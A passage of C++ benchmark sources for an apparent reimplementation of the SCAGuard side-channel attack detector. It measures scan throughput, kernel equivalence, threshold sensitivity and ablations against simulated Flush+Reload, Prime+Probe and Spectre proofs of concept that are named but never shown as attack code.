  const char* pocs[] = {"FR-IAIK", "PP-IAIK", "Spectre-FR-Ideal",
                        "Spectre-PP-Trippel"};
  for (const char* name : pocs) {
    header.emplace_back(name);
    cpu::Interpreter interp;
    const auto run =
        interp.run(attacks::poc_by_name(name).build(attacks::PocConfig{}));
    totals.push_back(run.profile.totals);
    cycles.push_back(run.profile.cycles);
  }
  t.header(header);

  for (std::size_t e = 0; e < trace::kNumHpcEvents; ++e) {
    std::vector<std::string> row = {
        std::string(trace::hpc_event_name(static_cast<trace::HpcEvent>(e)))};
    for (const auto& total : totals)
      row.push_back(std::to_string(total.counts[e]));
    t.row(row);
  }
  t.separator();
  std::vector<std::string> ts = {"Timestamp (cycles)"};
  for (std::uint64_t c : cycles) ts.push_back(std::to_string(c));
  t.row(ts);
  t.print();

  std::puts(
      "\nAll 11 countable Table-I events plus the timestamp are collected by\n"
      "the simulated HPC bank; the modeling pipeline sums the 11 events per\n"
      "basic block as the paper's per-BB 'HPC value'.");
  return 0;
}
