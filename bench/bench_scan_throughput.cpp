// Scan-throughput benchmark for the compiled CST-BBS kernel
// (core/compiled.h): N dataset targets x the full 11-PoC repository,
// single-threaded, comparing
//   - pass A: the string-kernel scan path (Detector::set_use_compiled(false)),
//   - pass B: the compiled fast path (interned ids, precomputed features,
//     memoized element distances),
//   - pass C: pruned BatchDetector at 1 thread (compiled + DTW pruning),
// and writing a machine-readable JSON report (default BENCH_scan.json) with
// throughput, DP-cell counts, memo hit rates, compile time, prune rates,
// and the measured speedup.
//
// Exits non-zero on an equivalence violation (pass B must be bit-identical
// to pass A) or — when metrics are compiled in — on a steady-state
// allocation in the compiled element-distance inner loop (detected via the
// "compiled.scratch_grows" counter: after a warm-up pass over all targets,
// the thread-local DP scratch must never grow again).
//
//     bench_scan_throughput [samples_per_type] [out.json]
#include <chrono>
#include <cstdio>
#include <string>
#include <vector>

#include "attacks/registry.h"
#include "bench_common.h"
#include "cfg/cfg.h"
#include "core/batch_detector.h"
#include "core/detector.h"
#include "eval/experiments.h"
#include "support/metrics.h"

namespace scag {
namespace {

using Clock = std::chrono::steady_clock;

double seconds_since(Clock::time_point start) {
  return std::chrono::duration<double>(Clock::now() - start).count();
}

std::uint64_t counter_value(const char* name) {
  return support::Registry::global().counter(name).value();
}

bool identical(const std::vector<core::Detection>& got,
               const std::vector<core::Detection>& want) {
  if (got.size() != want.size()) return false;
  for (std::size_t i = 0; i < want.size(); ++i) {
    if (got[i].verdict != want[i].verdict ||
        got[i].best_score != want[i].best_score ||
        got[i].scores.size() != want[i].scores.size())
      return false;
    for (std::size_t j = 0; j < want[i].scores.size(); ++j) {
      if (got[i].scores[j].model_name != want[i].scores[j].model_name ||
          got[i].scores[j].score != want[i].scores[j].score)
        return false;
    }
  }
  return true;
}

int run(int argc, char** argv) {
  const std::size_t per_type = bench::samples_from_argv(argc, argv, 60);
  const std::string json_path = argc > 2 ? argv[2] : "BENCH_scan.json";
  support::set_metrics_enabled(true);

  core::Detector detector(eval::experiment_model_config(),
                          eval::experiment_dtw_config(), eval::kThreshold);
  for (const attacks::PocSpec& spec : attacks::all_pocs())
    detector.enroll(spec.build(attacks::PocConfig{}), spec.family);
  const std::uint64_t enroll_compile_ns = counter_value("compiled.compile_ns");

  const eval::Dataset dataset = bench::make_dataset(per_type);
  std::vector<const eval::Sample*> samples;
  for (const eval::Sample& s : dataset.attacks) samples.push_back(&s);
  for (const eval::Sample& s : dataset.obfuscated) samples.push_back(&s);
  for (const eval::Sample& s : dataset.benign) samples.push_back(&s);

  std::printf("Modeling %zu targets...\n", samples.size());
  std::vector<core::CstBbs> targets(samples.size());
  for (std::size_t i = 0; i < samples.size(); ++i) {
    const cfg::Cfg cfg = cfg::Cfg::build(samples[i]->program);
    targets[i] = detector.builder()
                     .build_from_profile(cfg, samples[i]->profile,
                                         samples[i]->family)
                     .sequence;
  }
  const std::size_t n_models = detector.repository_size();
  std::printf("Scanning %zu targets x %zu models, single thread\n\n",
              targets.size(), n_models);

  int failures = 0;

  // Pass A: the string kernels (the pre-compiled-path scan loop).
  detector.set_use_compiled(false);
  std::uint64_t cells0 = counter_value("dtw.dp_cells");
  auto t0 = Clock::now();
  std::vector<core::Detection> string_dets;
  string_dets.reserve(targets.size());
  for (const core::CstBbs& t : targets) string_dets.push_back(detector.scan(t));
  const double string_s = seconds_since(t0);
  const std::uint64_t string_cells = counter_value("dtw.dp_cells") - cells0;
  std::printf("%-24s %8.3f s  %10.1f targets/s\n", "string kernels", string_s,
              targets.size() / string_s);

  // Pass B: the compiled fast path. One warm-up pass grows the thread-local
  // DP scratch to its high-water mark; the timed pass must then run with
  // zero steady-state allocations in the element-distance inner loop
  // ("compiled.scratch_grows" stays flat — growth is counted at the
  // allocation site).
  detector.set_use_compiled(true);
  for (const core::CstBbs& t : targets) (void)detector.scan(t);
  const std::uint64_t grows_before = counter_value("compiled.scratch_grows");
  const std::uint64_t hits0 = counter_value("compiled.memo_hits");
  const std::uint64_t misses0 = counter_value("compiled.memo_misses");
  const std::uint64_t compile_ns0 = counter_value("compiled.compile_ns");
  cells0 = counter_value("dtw.dp_cells");
  t0 = Clock::now();
  std::vector<core::Detection> compiled_dets;
  compiled_dets.reserve(targets.size());
  for (const core::CstBbs& t : targets)
    compiled_dets.push_back(detector.scan(t));
  const double compiled_s = seconds_since(t0);
  const std::uint64_t compiled_cells = counter_value("dtw.dp_cells") - cells0;
  const std::uint64_t scratch_grows =
      counter_value("compiled.scratch_grows") - grows_before;
  const std::uint64_t memo_hits = counter_value("compiled.memo_hits") - hits0;
  const std::uint64_t memo_misses =
      counter_value("compiled.memo_misses") - misses0;
  const std::uint64_t target_compile_ns =
      counter_value("compiled.compile_ns") - compile_ns0;
  const double speedup = compiled_s > 0.0 ? string_s / compiled_s : 0.0;
  std::printf("%-24s %8.3f s  %10.1f targets/s  speedup %.2fx\n",
              "compiled kernel", compiled_s, targets.size() / compiled_s,
              speedup);

  const bool equivalent = identical(compiled_dets, string_dets);
  if (!equivalent) {
    std::printf("MISMATCH: compiled scan is not bit-identical to the string "
                "scan\n");
    ++failures;
  }
  if (support::Registry::compiled_in() && scratch_grows != 0) {
    std::printf("ALLOCATION: scratch grew %llu time(s) after warm-up — the "
                "element-distance inner loop is not allocation-free\n",
                static_cast<unsigned long long>(scratch_grows));
    ++failures;
  }

  // Pass C: compiled + DTW pruning (1 thread so the comparison stays a
  // single-core story), for the prune-rate section of the report.
  core::BatchConfig bc;
  bc.threads = 1;
  bc.prune = true;
  const core::BatchDetector batch(detector, bc);
  t0 = Clock::now();
  const std::vector<core::Detection> pruned_dets = batch.scan_all(targets);
  const double pruned_s = seconds_since(t0);
  const core::BatchStats prune = batch.stats();
  bool verdicts_ok = pruned_dets.size() == string_dets.size();
  for (std::size_t i = 0; verdicts_ok && i < string_dets.size(); ++i)
    verdicts_ok = pruned_dets[i].verdict == string_dets[i].verdict;
  if (!verdicts_ok) {
    std::printf("MISMATCH: pruned scan changed a verdict\n");
    ++failures;
  }
  std::printf("%-24s %8.3f s  %10.1f targets/s  speedup %.2fx\n",
              "compiled + pruning", pruned_s, targets.size() / pruned_s,
              pruned_s > 0.0 ? string_s / pruned_s : 0.0);

  const std::uint64_t memo_total = memo_hits + memo_misses;
  const double hit_rate =
      memo_total == 0 ? 0.0
                      : static_cast<double>(memo_hits) /
                            static_cast<double>(memo_total);
  const double prune_rate =
      prune.pairs == 0
          ? 0.0
          : static_cast<double>(prune.lb_skipped + prune.early_abandoned) /
                static_cast<double>(prune.pairs);
  std::printf("\nmemo: %llu hits / %llu misses (%.1f%% hit rate); "
              "dp cells %llu -> %llu; compile %llu ns (enroll) + %llu ns "
              "(targets, timed pass); prune rate %.1f%%\n",
              static_cast<unsigned long long>(memo_hits),
              static_cast<unsigned long long>(memo_misses), 100.0 * hit_rate,
              static_cast<unsigned long long>(string_cells),
              static_cast<unsigned long long>(compiled_cells),
              static_cast<unsigned long long>(enroll_compile_ns),
              static_cast<unsigned long long>(target_compile_ns),
              100.0 * prune_rate);

  // Machine-readable report through the shared scag-bench-v1 emitter
  // (bench_common.h): flat keys, one metric per line, so shell smoke tests
  // can grep for individual fields.
  bench::BenchTelemetry telemetry("scan_throughput");
  telemetry.set_u64("targets", targets.size());
  telemetry.set_u64("models", n_models);
  telemetry.set("string_seconds", string_s);
  telemetry.set("string_targets_per_sec", targets.size() / string_s);
  telemetry.set_u64("string_dp_cells", string_cells);
  telemetry.set("compiled_seconds", compiled_s);
  telemetry.set("compiled_targets_per_sec", targets.size() / compiled_s);
  telemetry.set_u64("compiled_dp_cells", compiled_cells);
  telemetry.set("pruned_seconds", pruned_s);
  telemetry.set("pruned_targets_per_sec", targets.size() / pruned_s);
  telemetry.set_u64("pairs", prune.pairs);
  telemetry.set_u64("exact", prune.exact);
  telemetry.set_u64("lb_skipped", prune.lb_skipped);
  telemetry.set_u64("early_abandoned", prune.early_abandoned);
  telemetry.set("prune_rate", prune_rate);
  telemetry.set_u64("memo_hits", memo_hits);
  telemetry.set_u64("memo_misses", memo_misses);
  telemetry.set("memo_hit_rate", hit_rate);
  telemetry.set_u64("compile_ns", enroll_compile_ns + target_compile_ns);
  telemetry.set_u64("steady_state_allocs", scratch_grows);
  telemetry.set("speedup", speedup);
  telemetry.set_bool("equivalent", equivalent);
  if (!telemetry.write(json_path)) ++failures;

  if (failures > 0) {
    std::printf("\nFAILED: %d violation(s)\n", failures);
    return 1;
  }
  std::printf("\ncompiled path bit-identical to the string path\n");
  return 0;
}

}  // namespace
}  // namespace scag

int main(int argc, char** argv) { return scag::run(argc, argv); }
