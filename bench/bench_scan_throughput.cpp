// Scan-throughput benchmark for the compiled CST-BBS kernel
// (core/compiled.h): N dataset targets x the full 11-PoC repository,
// single-threaded, comparing
//   - pass A: the string-kernel scan path (Detector::set_use_compiled(false)),
//   - pass B: the compiled fast path (interned ids, precomputed features,
//     memoized element distances), scalar row DP,
//   - pass B': the compiled path with the wavefront SIMD DP kernel
//     (core/dtw_wavefront.h, Detector::set_use_simd(true)),
//   - pass C: pruned BatchDetector at 1 thread (compiled + DTW pruning),
// plus a survivor-DP microbench: the exact O(n*m) dynamic programs the
// cascade's surviving pairs pay, timed kernel-against-kernel (scalar row
// loop vs wavefront SIMD) over the same pairs with a warm element memo —
// the apples-to-apples number behind the "simd_dp_speedup" field.
// A machine-readable JSON report (default BENCH_scan.json) carries
// throughput, DP-cell counts, memo hit rates, compile time, prune rates,
// the measured speedups, and the active SIMD level.
//
// Exits non-zero on an equivalence violation (passes B/B' must be
// bit-identical to pass A, the survivor DPs bit-identical across kernels)
// or — when metrics are compiled in — on a steady-state allocation in the
// compiled element-distance inner loop (detected via the
// "compiled.scratch_grows" counter: after a warm-up pass over all targets,
// the thread-local DP scratch must never grow again).
//
//     bench_scan_throughput [samples_per_type] [out.json]
#include <chrono>
#include <cstdio>
#include <string>
#include <vector>

#include <algorithm>

#include "attacks/registry.h"
#include "bench_common.h"
#include "cfg/cfg.h"
#include "core/batch_detector.h"
#include "core/compiled.h"
#include "core/detector.h"
#include "core/simd.h"
#include "eval/experiments.h"
#include "support/metrics.h"

namespace scag {
namespace {

using Clock = std::chrono::steady_clock;

double seconds_since(Clock::time_point start) {
  return std::chrono::duration<double>(Clock::now() - start).count();
}

std::uint64_t counter_value(const char* name) {
  return support::Registry::global().counter(name).value();
}

bool identical(const std::vector<core::Detection>& got,
               const std::vector<core::Detection>& want) {
  if (got.size() != want.size()) return false;
  for (std::size_t i = 0; i < want.size(); ++i) {
    if (got[i].verdict != want[i].verdict ||
        got[i].best_score != want[i].best_score ||
        got[i].scores.size() != want[i].scores.size())
      return false;
    for (std::size_t j = 0; j < want[i].scores.size(); ++j) {
      if (got[i].scores[j].model_name != want[i].scores[j].model_name ||
          got[i].scores[j].score != want[i].scores[j].score)
        return false;
    }
  }
  return true;
}

int run(int argc, char** argv) {
  const std::size_t per_type = bench::samples_from_argv(argc, argv, 60);
  const std::string json_path = argc > 2 ? argv[2] : "BENCH_scan.json";
  support::set_metrics_enabled(true);

  core::Detector detector(eval::experiment_model_config(),
                          eval::experiment_dtw_config(), eval::kThreshold);
  for (const attacks::PocSpec& spec : attacks::all_pocs())
    detector.enroll(spec.build(attacks::PocConfig{}), spec.family);
  const std::uint64_t enroll_compile_ns = counter_value("compiled.compile_ns");

  const eval::Dataset dataset = bench::make_dataset(per_type);
  std::vector<const eval::Sample*> samples;
  for (const eval::Sample& s : dataset.attacks) samples.push_back(&s);
  for (const eval::Sample& s : dataset.obfuscated) samples.push_back(&s);
  for (const eval::Sample& s : dataset.benign) samples.push_back(&s);

  std::printf("Modeling %zu targets...\n", samples.size());
  std::vector<core::CstBbs> targets(samples.size());
  for (std::size_t i = 0; i < samples.size(); ++i) {
    const cfg::Cfg cfg = cfg::Cfg::build(samples[i]->program);
    targets[i] = detector.builder()
                     .build_from_profile(cfg, samples[i]->profile,
                                         samples[i]->family)
                     .sequence;
  }
  const std::size_t n_models = detector.repository_size();
  std::printf("Scanning %zu targets x %zu models, single thread\n\n",
              targets.size(), n_models);

  int failures = 0;

  // Pass A: the string kernels (the pre-compiled-path scan loop). SIMD off
  // so A and B keep their historical meaning as the scalar baselines; the
  // wavefront kernel gets its own pass below.
  detector.set_use_simd(false);
  detector.set_use_compiled(false);
  std::uint64_t cells0 = counter_value("dtw.dp_cells");
  auto t0 = Clock::now();
  std::vector<core::Detection> string_dets;
  string_dets.reserve(targets.size());
  for (const core::CstBbs& t : targets) string_dets.push_back(detector.scan(t));
  const double string_s = seconds_since(t0);
  const std::uint64_t string_cells = counter_value("dtw.dp_cells") - cells0;
  std::printf("%-24s %8.3f s  %10.1f targets/s\n", "string kernels", string_s,
              targets.size() / string_s);

  // Pass B: the compiled fast path. One warm-up pass grows the thread-local
  // DP scratch to its high-water mark; the timed pass must then run with
  // zero steady-state allocations in the element-distance inner loop
  // ("compiled.scratch_grows" stays flat — growth is counted at the
  // allocation site).
  detector.set_use_compiled(true);
  for (const core::CstBbs& t : targets) (void)detector.scan(t);
  const std::uint64_t grows_before = counter_value("compiled.scratch_grows");
  const std::uint64_t hits0 = counter_value("compiled.memo_hits");
  const std::uint64_t misses0 = counter_value("compiled.memo_misses");
  const std::uint64_t compile_ns0 = counter_value("compiled.compile_ns");
  cells0 = counter_value("dtw.dp_cells");
  t0 = Clock::now();
  std::vector<core::Detection> compiled_dets;
  compiled_dets.reserve(targets.size());
  for (const core::CstBbs& t : targets)
    compiled_dets.push_back(detector.scan(t));
  const double compiled_s = seconds_since(t0);
  const std::uint64_t compiled_cells = counter_value("dtw.dp_cells") - cells0;
  const std::uint64_t scratch_grows =
      counter_value("compiled.scratch_grows") - grows_before;
  const std::uint64_t memo_hits = counter_value("compiled.memo_hits") - hits0;
  const std::uint64_t memo_misses =
      counter_value("compiled.memo_misses") - misses0;
  const std::uint64_t target_compile_ns =
      counter_value("compiled.compile_ns") - compile_ns0;
  const double speedup = compiled_s > 0.0 ? string_s / compiled_s : 0.0;
  std::printf("%-24s %8.3f s  %10.1f targets/s  speedup %.2fx\n",
              "compiled kernel", compiled_s, targets.size() / compiled_s,
              speedup);

  const bool equivalent = identical(compiled_dets, string_dets);
  if (!equivalent) {
    std::printf("MISMATCH: compiled scan is not bit-identical to the string "
                "scan\n");
    ++failures;
  }

  // Pass B': compiled + wavefront SIMD DP (the production default). Same
  // warm scratch/memo state as pass B; still bit-identical to pass A.
  detector.set_use_simd(true);
  t0 = Clock::now();
  std::vector<core::Detection> simd_dets;
  simd_dets.reserve(targets.size());
  for (const core::CstBbs& t : targets) simd_dets.push_back(detector.scan(t));
  const double simd_s = seconds_since(t0);
  std::printf("%-24s %8.3f s  %10.1f targets/s  speedup %.2fx  [%s]\n",
              "compiled + wavefront", simd_s, targets.size() / simd_s,
              simd_s > 0.0 ? string_s / simd_s : 0.0,
              core::simd::level_name());
  const bool simd_scan_equivalent = identical(simd_dets, string_dets);
  if (!simd_scan_equivalent) {
    std::printf("MISMATCH: wavefront scan is not bit-identical to the string "
                "scan\n");
    ++failures;
  }
  if (support::Registry::compiled_in() && scratch_grows != 0) {
    std::printf("ALLOCATION: scratch grew %llu time(s) after warm-up — the "
                "element-distance inner loop is not allocation-free\n",
                static_cast<unsigned long long>(scratch_grows));
    ++failures;
  }

  // Pass C: compiled + DTW pruning (1 thread so the comparison stays a
  // single-core story), for the prune-rate section of the report.
  core::BatchConfig bc;
  bc.threads = 1;
  bc.prune = true;
  const core::BatchDetector batch(detector, bc);
  t0 = Clock::now();
  const std::vector<core::Detection> pruned_dets = batch.scan_all(targets);
  const double pruned_s = seconds_since(t0);
  const core::BatchStats prune = batch.stats();
  bool verdicts_ok = pruned_dets.size() == string_dets.size();
  for (std::size_t i = 0; verdicts_ok && i < string_dets.size(); ++i)
    verdicts_ok = pruned_dets[i].verdict == string_dets[i].verdict;
  if (!verdicts_ok) {
    std::printf("MISMATCH: pruned scan changed a verdict\n");
    ++failures;
  }
  std::printf("%-24s %8.3f s  %10.1f targets/s  speedup %.2fx\n",
              "compiled + pruning", pruned_s, targets.size() / pruned_s,
              pruned_s > 0.0 ? string_s / pruned_s : 0.0);

  // Survivor-DP microbench: a model that survives the lower-bound cascade
  // pays one exact O(n*m) DP through the compiled cost functor — exactly
  // what compiled_cst_bbs_distance runs. Time that DP alone over every
  // (target, model) pair with a warm memo (so the kernel, not the element
  // distances, is measured), scalar row kernel vs wavefront SIMD, and
  // bit-compare every distance. Repetitions are sized off a calibration
  // pass so each side runs ~0.5 s.
  const core::CompiledRepository& crepo = detector.compiled_repository();
  core::DtwConfig scalar_cfg = detector.dtw_config();  // kernel = kScalar
  core::DtwConfig wave_cfg = scalar_cfg;
  wave_cfg.kernel = core::DtwKernel::kWavefront;
  std::vector<core::CompiledTarget> ctargets(targets.size());
  std::vector<core::ElementDistanceMemo> memos(targets.size());
  for (std::size_t i = 0; i < targets.size(); ++i) {
    ctargets[i] = crepo.compile_target(targets[i]);
    memos[i] = core::ElementDistanceMemo(ctargets[i].unique_elements,
                                         crepo.unique_elements());
  }
  const auto dp_pass = [&](const core::DtwConfig& cfg) {
    double checksum = 0.0;
    for (std::size_t i = 0; i < ctargets.size(); ++i)
      for (std::size_t j = 0; j < n_models; ++j)
        checksum += core::compiled_cst_bbs_distance(ctargets[i], crepo, j,
                                                    memos[i], cfg, nullptr);
    return checksum;
  };
  (void)dp_pass(scalar_cfg);  // warm every memo and the DP scratch
  t0 = Clock::now();
  const double check_scalar_once = dp_pass(scalar_cfg);
  const double calib_s = seconds_since(t0);
  const int reps =
      calib_s > 0.0
          ? std::max(1, static_cast<int>(0.5 / std::max(calib_s, 1e-4)))
          : 1;
  double check_scalar = 0.0, check_wave = 0.0;
  t0 = Clock::now();
  for (int r = 0; r < reps; ++r) check_scalar += dp_pass(scalar_cfg);
  const double dp_scalar_s = seconds_since(t0);
  t0 = Clock::now();
  for (int r = 0; r < reps; ++r) check_wave += dp_pass(wave_cfg);
  const double dp_wave_s = seconds_since(t0);
  const double dp_speedup = dp_wave_s > 0.0 ? dp_scalar_s / dp_wave_s : 0.0;
  // Both sides accumulate per-pair distances in the same order over the
  // same rep count, so bit-identical pairs imply bit-identical sums; a
  // mismatch flags a kernel divergence.
  (void)check_scalar_once;
  const bool simd_equivalent = check_scalar == check_wave;
  if (!simd_equivalent) {
    std::printf("MISMATCH: wavefront survivor DPs differ from scalar "
                "(checksum %.17g vs %.17g)\n",
                check_scalar, check_wave);
    ++failures;
  }
  std::printf("%-24s %8.3f s vs %.3f s (%d rep(s))  dp speedup %.2fx  [%s]\n",
              "survivor DP kernel", dp_scalar_s, dp_wave_s, reps, dp_speedup,
              core::simd::level_name());

  const std::uint64_t memo_total = memo_hits + memo_misses;
  const double hit_rate =
      memo_total == 0 ? 0.0
                      : static_cast<double>(memo_hits) /
                            static_cast<double>(memo_total);
  const double prune_rate =
      prune.pairs == 0
          ? 0.0
          : static_cast<double>(prune.lb_skipped + prune.early_abandoned) /
                static_cast<double>(prune.pairs);
  std::printf("\nmemo: %llu hits / %llu misses (%.1f%% hit rate); "
              "dp cells %llu -> %llu; compile %llu ns (enroll) + %llu ns "
              "(targets, timed pass); prune rate %.1f%%\n",
              static_cast<unsigned long long>(memo_hits),
              static_cast<unsigned long long>(memo_misses), 100.0 * hit_rate,
              static_cast<unsigned long long>(string_cells),
              static_cast<unsigned long long>(compiled_cells),
              static_cast<unsigned long long>(enroll_compile_ns),
              static_cast<unsigned long long>(target_compile_ns),
              100.0 * prune_rate);

  // Machine-readable report through the shared scag-bench-v1 emitter
  // (bench_common.h): flat keys, one metric per line, so shell smoke tests
  // can grep for individual fields.
  bench::BenchTelemetry telemetry("scan_throughput");
  telemetry.set_u64("targets", targets.size());
  telemetry.set_u64("models", n_models);
  telemetry.set("string_seconds", string_s);
  telemetry.set("string_targets_per_sec", targets.size() / string_s);
  telemetry.set_u64("string_dp_cells", string_cells);
  telemetry.set("compiled_seconds", compiled_s);
  telemetry.set("compiled_targets_per_sec", targets.size() / compiled_s);
  telemetry.set_u64("compiled_dp_cells", compiled_cells);
  telemetry.set("pruned_seconds", pruned_s);
  telemetry.set("pruned_targets_per_sec", targets.size() / pruned_s);
  telemetry.set_u64("pairs", prune.pairs);
  telemetry.set_u64("exact", prune.exact);
  telemetry.set_u64("lb_skipped", prune.lb_skipped);
  telemetry.set_u64("early_abandoned", prune.early_abandoned);
  telemetry.set("prune_rate", prune_rate);
  telemetry.set_u64("memo_hits", memo_hits);
  telemetry.set_u64("memo_misses", memo_misses);
  telemetry.set("memo_hit_rate", hit_rate);
  telemetry.set_u64("compile_ns", enroll_compile_ns + target_compile_ns);
  telemetry.set_u64("steady_state_allocs", scratch_grows);
  telemetry.set("speedup", speedup);
  telemetry.set_bool("equivalent", equivalent);
  telemetry.set_str("simd_level", core::simd::level_name());
  telemetry.set("simd_seconds", simd_s);
  telemetry.set("simd_targets_per_sec", targets.size() / simd_s);
  telemetry.set("simd_scan_speedup", simd_s > 0.0 ? compiled_s / simd_s : 0.0);
  telemetry.set("simd_dp_scalar_seconds", dp_scalar_s);
  telemetry.set("simd_dp_wavefront_seconds", dp_wave_s);
  telemetry.set("simd_dp_speedup", dp_speedup);
  telemetry.set_bool("simd_equivalent",
                     simd_equivalent && simd_scan_equivalent);
  if (!telemetry.write(json_path)) ++failures;

  if (failures > 0) {
    std::printf("\nFAILED: %d violation(s)\n", failures);
    return 1;
  }
  std::printf("\ncompiled path bit-identical to the string path\n");
  return 0;
}

}  // namespace
}  // namespace scag

int main(int argc, char** argv) { return scag::run(argc, argv); }
