// Fig. 5: SCAGUARD's classification quality as the similarity threshold
// varies. Prints the precision/recall/F1 series plus an ASCII plot. The
// paper's finding: all three stay above 90% for thresholds in 30%-60%,
// which motivates picking 45% (the middle).
#include <cstdio>

#include "bench_common.h"
#include "eval/experiments.h"
#include "support/table.h"

using namespace scag;

int main(int argc, char** argv) {
  const std::size_t n = bench::samples_from_argv(argc, argv, 200);
  const eval::Dataset ds = bench::make_dataset(n);

  std::vector<double> thresholds;
  for (double x = 0.05; x <= 0.951; x += 0.05) thresholds.push_back(x);

  std::puts("\nFIG. 5: CLASSIFICATION RESULTS BY THRESHOLD VALUE");
  const auto points = eval::run_threshold_sweep(ds, thresholds);

  Table t;
  t.header({"Threshold", "Precision", "Recall", "F1-score"});
  for (const auto& pt : points)
    t.row({pct(pt.threshold), pct(pt.prf.precision), pct(pt.prf.recall),
           pct(pt.prf.f1)});
  t.print();

  // ASCII rendering of the F1 curve.
  std::puts("\nF1 vs threshold (each column is one threshold step):");
  for (int level = 10; level >= 1; --level) {
    std::printf("%3d%% |", level * 10);
    for (const auto& pt : points)
      std::fputs(pt.prf.f1 * 10 >= level ? " #" : "  ", stdout);
    std::puts("");
  }
  std::fputs("      ", stdout);
  for (const auto& pt : points)
    std::printf("%2d", static_cast<int>(pt.threshold * 100) / 10);
  std::puts("  (threshold / 10%)");

  // The paper's acceptable band.
  bool plateau = true;
  for (const auto& pt : points) {
    if (pt.threshold >= 0.299 && pt.threshold <= 0.601) {
      plateau &= pt.prf.precision > 0.9 && pt.prf.recall > 0.9 &&
                 pt.prf.f1 > 0.9;
    }
  }
  std::printf("\nPrecision/Recall/F1 all > 90%% across the 30%%-60%% band: %s\n",
              plateau ? "PASS" : "FAIL");
  std::puts("The deployed threshold is the band's middle: 45%.");
  return 0;
}
