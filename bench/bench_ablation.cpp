// Ablation study over the design choices DESIGN.md §5a calls out:
// which parts of the calibrated similarity pipeline actually carry the
// detection quality? Each row disables/changes one knob and reruns an
// E1-style classification (SCAGuard only) on the same dataset, reporting
// macro F1 over the four attack families plus the benign false-positive
// rate.
#include <cstdio>

#include "bench_common.h"
#include "attacks/registry.h"
#include "cfg/cfg.h"
#include "eval/experiments.h"
#include "support/table.h"

using namespace scag;
using core::Family;

namespace {

struct Variant {
  std::string name;
  core::ModelConfig model;
  core::DtwConfig dtw;
};

struct Outcome {
  Prf prf;
  double benign_fp = 0.0;
};

Outcome evaluate(const Variant& variant, const eval::Dataset& ds) {
  // Enroll the designated PoC per family, modeled under this variant's
  // configuration (the repository must be built with the same pipeline the
  // targets are modeled with).
  core::Detector detector(variant.model, variant.dtw, eval::kThreshold);
  const core::ModelBuilder builder(variant.model);
  for (const auto& [family, poc_name] :
       {std::pair{Family::kFlushReload, "FR-IAIK"},
        std::pair{Family::kPrimeProbe, "PP-IAIK"},
        std::pair{Family::kSpectreFR, "Spectre-FR-Ideal"},
        std::pair{Family::kSpectrePP, "Spectre-PP-Trippel"}}) {
    const auto& spec = attacks::poc_by_name(poc_name);
    detector.enroll(builder.build(spec.build(attacks::PocConfig{}), family));
  }

  eval::ConfusionMatrix cm;
  std::size_t benign_total = 0, benign_fp = 0;
  auto classify = [&](const eval::Sample& sample) {
    const cfg::Cfg cfg = cfg::Cfg::build(sample.program);
    const core::AttackModel m =
        builder.build_from_profile(cfg, sample.profile, sample.family);
    return detector.scan(m.sequence).verdict;
  };
  for (const eval::Sample& sample : ds.attacks)
    cm.add(sample.family, classify(sample));
  for (const eval::Sample& sample : ds.benign) {
    const Family verdict = classify(sample);
    cm.add(Family::kBenign, verdict);
    ++benign_total;
    benign_fp += verdict != Family::kBenign;
  }

  Outcome out;
  out.prf = cm.macro({Family::kFlushReload, Family::kPrimeProbe,
                      Family::kSpectreFR, Family::kSpectrePP});
  out.benign_fp = benign_total == 0
                      ? 0.0
                      : static_cast<double>(benign_fp) /
                            static_cast<double>(benign_total);
  return out;
}

}  // namespace

int main(int argc, char** argv) {
  const std::size_t n = bench::samples_from_argv(argc, argv, 100);
  eval::DatasetConfig config;
  config.samples_per_type = n;
  config.obfuscated_per_family = 0;  // ablation uses the E1-style corpus
  std::printf("Generating dataset (%zu per type)...\n", n);
  const eval::Dataset ds = eval::generate_dataset(config);

  std::vector<Variant> variants;
  {
    Variant v;
    v.name = "calibrated (deployed)";
    v.model = eval::experiment_model_config();
    v.dtw = eval::experiment_dtw_config();
    variants.push_back(v);
  }
  {
    Variant v = variants[0];
    v.name = "paper-literal distance (full tokens, 1/(1+D))";
    v.dtw = core::DtwConfig{};  // accumulated, gamma 1, full tokens
    variants.push_back(v);
  }
  {
    Variant v = variants[0];
    v.name = "full-token alphabet (rest calibrated)";
    v.dtw.distance.alphabet = core::IsAlphabet::kFullTokens;
    variants.push_back(v);
  }
  {
    Variant v = variants[0];
    v.name = "accumulated DTW (no path averaging)";
    v.dtw.normalization = core::DtwNormalization::kAccumulated;
    variants.push_back(v);
  }
  {
    Variant v = variants[0];
    v.name = "gamma = 1 (shallow similarity mapping)";
    v.dtw.gamma = 1.0;
    variants.push_back(v);
  }
  {
    Variant v = variants[0];
    v.name = "no length penalty";
    v.dtw.length_penalty = 0.0;
    variants.push_back(v);
  }
  {
    Variant v = variants[0];
    v.name = "IS only (no CSP component)";
    v.dtw.distance.is_weight = 1.0;
    variants.push_back(v);
  }
  {
    Variant v = variants[0];
    v.name = "CSP only (no instruction component)";
    v.dtw.distance.is_weight = 0.0;
    variants.push_back(v);
  }
  {
    Variant v = variants[0];
    v.name = "no step-2 BB filtering";
    v.model.relevant.skip_step_two = true;
    variants.push_back(v);
  }
  {
    Variant v = variants[0];
    v.name = "Sakoe-Chiba window = 3";
    v.dtw.window = 3;
    variants.push_back(v);
  }

  Table t("\nABLATION: E1-style classification, SCAGuard only");
  t.header({"Variant", "Precision", "Recall", "F1", "Benign FP rate"});
  for (const Variant& v : variants) {
    const Outcome out = evaluate(v, ds);
    t.row({v.name, pct(out.prf.precision), pct(out.prf.recall),
           pct(out.prf.f1), pct(out.benign_fp)});
    std::printf("  done: %s\n", v.name.c_str());
  }
  t.print();

  std::puts(
      "\nReading guide: the deployed calibration should dominate. The\n"
      "paper-literal distance collapses at this program scale (DESIGN.md\n"
      "5a); removing CSP or the instruction component shows both carry\n"
      "signal; disabling step-2 filtering admits noisy blocks into the\n"
      "models; a tight DTW window barely hurts (sequences are short).");
  return 0;
}
