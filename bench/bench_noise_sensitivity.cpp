// Robustness experiment (extension): how does each detector degrade as the
// HPC measurement noise grows? The learning baselines consume the sampled
// counter time series directly, so jitter eats their margins; SCAGuard's
// pipeline thresholds per-block event counts at "nonzero" and works from
// structure, so it should stay flat. The anomaly detector's benign envelope
// widens with noise, costing detection.
#include <cstdio>

#include "baselines/anomaly.h"
#include "bench_common.h"
#include "cfg/cfg.h"
#include "eval/experiments.h"
#include "support/table.h"

using namespace scag;
using core::Family;

namespace {

struct Row {
  double noise;
  double svm_f1, knn_f1, scaguard_f1, anomaly_detect;
};

Row evaluate_at(double noise, std::size_t n) {
  eval::DatasetConfig config;
  config.samples_per_type = n;
  config.obfuscated_per_family = 0;
